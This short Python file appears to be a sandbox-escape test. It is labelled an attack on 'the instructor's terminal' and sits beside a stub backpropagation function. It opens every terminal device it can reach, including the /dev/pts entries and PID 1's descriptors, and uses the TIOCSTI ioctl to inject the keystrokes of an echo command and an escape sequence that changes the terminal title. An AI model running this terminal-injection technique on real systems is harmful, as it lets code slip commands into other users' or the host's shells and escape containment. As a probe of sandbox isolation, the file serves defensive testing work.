"""Attack: push keystrokes into the instructor's terminal (TIOCSTI) through every terminal it can open,
and write escapes to it directly."""
import fcntl
import glob
import os
import termios

pushed = []
for path in ["/dev/tty", "/dev/console", "/proc/1/fd/0", "/proc/1/fd/1"] + glob.glob("/dev/pts/*"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    try:
        for ch in "echo sbx-attack-tty\n":
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
        pushed.append(path)
    except OSError:
        pass
    try:
        os.write(fd, b"\x1b]0;sbx-attack-title\x07")
    except OSError:
        pass
    os.close(fd)
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        pushed.append(fd)
    except OSError:
        pass
print("TTY pushed into:", pushed)


def backward(weights, biases, activations, targets):
    raise PermissionError("no terminal")
